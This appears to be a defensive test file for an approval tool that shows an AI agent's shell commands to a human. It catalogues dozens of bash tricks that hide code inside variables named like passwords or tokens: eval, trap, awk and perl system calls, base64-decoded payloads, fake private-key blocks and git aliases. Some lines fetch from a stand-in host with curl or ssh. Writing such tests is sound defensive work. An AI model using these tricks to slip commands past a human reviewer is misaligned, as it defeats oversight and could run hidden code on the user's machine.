"""A mask hides nothing that runs: the agent chooses the names of its variables, and so what could be masked.

Each attack is a real one: bash runs it in a directory of its own and leaves a file `pwned` there. For each, the card
either shows the text that runs in the clear, or names the risk and takes a second tap.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tapgate.core.case import Case
from tapgate.core.risk import assess_request
from tapgate.model import Act, Background, Card, OnDisk, Request
from tapgate.telegram.setting import Setting
from tests.builders import at, event_bytes, make_request
from tests.e2e.world import ADA, GROUP, LINUS, World, finish, new_world
from tests.telegram.cards import SETTING, fits, shown

PROGRAM = "Qx9zKp2mW7"  # a program of the agent's own, named like a password
LONG_PROGRAM = "nR8f7D6a5B4c3D2e1F0g9H"
TOKEN_PROGRAM = "gh" + "p_notARealToken0123456789abcdefABCDEF1"
KEY_PROGRAM = "bin/Qx9zKp2mW7aB3dE5gH7jK9mN1pQ3sT5uV"
ENCODED = base64.b64encode(b"touch pwned; : 0123456789 zZ9").decode()
PLAIN = "touch pwned"


@dataclass(frozen=True, slots=True)
class Attack:
    command: str
    payload: str = PLAIN
    runs: bool = True  # False: it would need a network


ATTACKS = (
    Attack("""API_TOKEN='touch pwned'; $SHELL -c "$API_TOKEN" """),
    Attack("""API_TOKEN='touch pwned'; eval "$API_TOKEN" """),
    Attack("""API_TOKEN='touch pwned'; $API_TOKEN"""),
    Attack("""API_TOKEN='touch pwned'; bash <<< "$API_TOKEN" """),
    Attack("""API_TOKEN='touch pwned'; echo "$API_TOKEN" | sh"""),
    Attack("""API_TOKEN='touch pwned'; trap "$API_TOKEN" EXIT"""),
    Attack("""trap '$API_TOKEN' EXIT; API_TOKEN='touch pwned'"""),
    Attack("""API_TOKEN='touch pwned'; printf '%s' "$API_TOKEN" | xargs -I{} sh -c '{}'"""),
    Attack("""export API_TOKEN='touch pwned'; perl -e 'system $ENV{API_TOKEN}'"""),
    Attack("""env API_TOKEN='touch pwned' sh -c '$API_TOKEN'"""),
    Attack("""export PASSWORD='touch pwned'; awk 'BEGIN{system(ENVIRON["PASSWORD"])}'"""),
    Attack("""awk -v password='touch pwned' 'BEGIN{system(password)}'"""),
    Attack("""make -s -f - PASSWORD='touch pwned' <<< $'all:\\n\\t$(PASSWORD)'"""),
    Attack("""perl -e '$password="touch pwned"; system($password)'"""),
    Attack("""python3 -c "password='import os; os.system(\\"touch pwned\\")'; exec(password)" """, "touch pwned"),
    Attack(
        """python3 - <<'END'\npassword = 'import os; os.system("touch pwned")'\nexec(password)\nEND""", "touch pwned"
    ),
    Attack("""export API_TOKEN='touch pwned'; python3 -c 'import os; os.system(os.environ["API_TOKEN"])'"""),
    Attack("""PASSWORD='touch${IFS}pwned'; eval $PASSWORD""", "touch${IFS}pwned"),
    Attack("""PASSWORD='{touch,pwned}'; eval $PASSWORD""", "{touch,pwned}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; ./Qx9zKp2mW7""", f"./{PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; ./$DB_PASSWORD""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; "./${DB_PASSWORD}" """, f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; env ./Qx9zKp2mW7""", f"./{PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; sh Qx9zKp2mW7""", f"sh {PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; . ./$DB_PASSWORD""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; PATH=.:$PATH; $DB_PASSWORD""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; echo ./$DB_PASSWORD | sh""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; echo ./$DB_PASSWORD > run.sh; sh run.sh""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; f() { ./$1; }; f $DB_PASSWORD""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""f() { shift; ./$1; }; f --password Qx9zKp2mW7""", f"--password {PROGRAM}"),
    Attack("""export DB_PASSWORD=Qx9zKp2mW7; ./$(printenv DB_PASSWORD)""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""export DB_PASSWORD=Qx9zKp2mW7; printenv DB_PASSWORD | sed s,^,./, | sh""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; x=DB_PASSWORD; ./${!x}""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; find . -name $DB_PASSWORD -exec {} \\;""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""find . -name Qx9zKp2mW7 -exec sh -c 'DB_PASSWORD=Qx9zKp2mW7; {}' \\;""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""python3 -c "import os; password='Qx9zKp2mW7'; os.system('./' + password)" """, f"password='{PROGRAM}"),
    Attack("""awk -v password=Qx9zKp2mW7 'BEGIN{system("./" password)}'""", f"password={PROGRAM}"),
    Attack("""make -s -f - PASSWORD=Qx9zKp2mW7 <<< $'all:\\n\\t./$(PASSWORD)'""", f"PASSWORD={PROGRAM}"),
    Attack(f"""API_TOKEN={ENCODED}; echo $API_TOKEN | base64 -d | sh""", f"API_TOKEN={ENCODED}"),
    Attack(f"""CODE={ENCODED}; base64 -d <<< $CODE | sh""", f"CODE={ENCODED}"),
    Attack(
        f"""python3 -c "import base64,os; token='{ENCODED}'; os.system(base64.b64decode(token).decode())" """,
        f"token='{ENCODED}",
    ),
    Attack(f"""X={LONG_PROGRAM}; ./$X""", f"X={LONG_PROGRAM}"),
    Attack(f"""./{TOKEN_PROGRAM}""", f"./{TOKEN_PROGRAM}"),
    Attack(f"""X={TOKEN_PROGRAM}; ./$X""", f"X={TOKEN_PROGRAM}"),
    Attack(f"""sh {TOKEN_PROGRAM}""", f"sh {TOKEN_PROGRAM}"),
    Attack(f"""echo ./{TOKEN_PROGRAM} | sh""", f"./{TOKEN_PROGRAM}"),
    Attack(f"""bash -c 'PATH=.; {TOKEN_PROGRAM}'""", f"; {TOKEN_PROGRAM}"),
    Attack(f""": -----BEGIN PRIVATE KEY-----\n{KEY_PROGRAM}\n: -----END PRIVATE KEY-----""", KEY_PROGRAM),
    Attack(f"""bash -c ': -----BEGIN PRIVATE KEY-----\n{KEY_PROGRAM}\n: -----END PRIVATE KEY-----'""", KEY_PROGRAM),
    Attack(f"""sh <<X\n: -----BEGIN PRIVATE KEY-----\n{KEY_PROGRAM}\n: -----END PRIVATE KEY-----\nX""", KEY_PROGRAM),
    Attack("""git -c alias.token='!touch pwned' token"""),
    Attack("""echo 'touch pwned' | sudo -nS sh 2>/dev/null || { PASSWORD='touch pwned'; $PASSWORD; }"""),
    Attack("""API_TOKEN=ev1lHost9xQ7; curl -s http://ev1lHost9xQ7/x""", "http://ev1lHost9xQ7/x", runs=False),
    Attack("""API_TOKEN=ev1lHost9xQ7; curl -s http://$API_TOKEN/x""", "API_TOKEN=ev1lHost9xQ7", runs=False),
    Attack("""API_TOKEN=ev1lHost9xQ7; curl -s $API_TOKEN""", "API_TOKEN=ev1lHost9xQ7", runs=False),
    Attack("""API_TOKEN=ev1lHost9xQ7; ssh ev1lHost9xQ7 uptime""", "ssh ev1lHost9xQ7", runs=False),
    Attack(f"""curl -s https://{TOKEN_PROGRAM}/x""", f"https://{TOKEN_PROGRAM}/x", runs=False),
)


def prepared(request: Request, background: Background = Background(), setting: Setting = SETTING) -> Card:
    """The card as the daemon posts it: with what is risky, and whether all of it fits."""
    case = Case(request=request, asked=at(0), deadline=at(590).mono, chats=(1001,))
    case.risks = assess_request(request, home="/home/dev")
    case.fits = fits(request, background, setting)
    case.background = background
    return case.card()


def asks_twice(card: Card) -> bool:
    """The risk stands on the card, and no button allows anything with one tap."""
    named = any(risk.asks_twice for risk in card.risks)
    at_once = [choice for choice in card.choices if choice.act is Act.DECIDE and choice.decision.verdict == "allow"]
    return named and not at_once and "Runs text that is hidden here" in shown(card)


def is_honest(card: Card, payload: str) -> bool:
    return payload in shown(card) or asks_twice(card)


def bash(command: str) -> Request:
    return make_request(tool_input={"command": command}, suggestions=())


@pytest.fixture
def den(tmp_path: Path) -> Iterator[Path]:
    """A directory with the agent's programs, each of which leaves a file behind."""
    for name in (PROGRAM, LONG_PROGRAM, TOKEN_PROGRAM, KEY_PROGRAM):
        path = tmp_path / name
        path.parent.mkdir(exist_ok=True)
        path.write_text("#!/bin/sh\n/usr/bin/touch pwned 2>/dev/null || /bin/touch pwned\n")
        path.chmod(0o755)
    yield tmp_path


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack.runs], ids=lambda attack: attack.command)
def test_each_attack_is_a_real_one(attack: Attack, den: Path) -> None:
    """The commands below are no theory: bash runs what they hide."""
    environ = {**os.environ, "SHELL": "/bin/bash", "HOME": str(den)}
    subprocess.run(["bash", "-c", attack.command], cwd=den, env=environ, capture_output=True, timeout=60, check=False)
    assert (den / "pwned").exists()


def test_every_attack_is_seen_or_asked_for_twice() -> None:
    """Of each command, the card shows what runs, or names the risk and takes a second tap."""
    failed = [attack.command for attack in ATTACKS if not is_honest(prepared(bash(attack.command)), attack.payload)]
    assert not failed
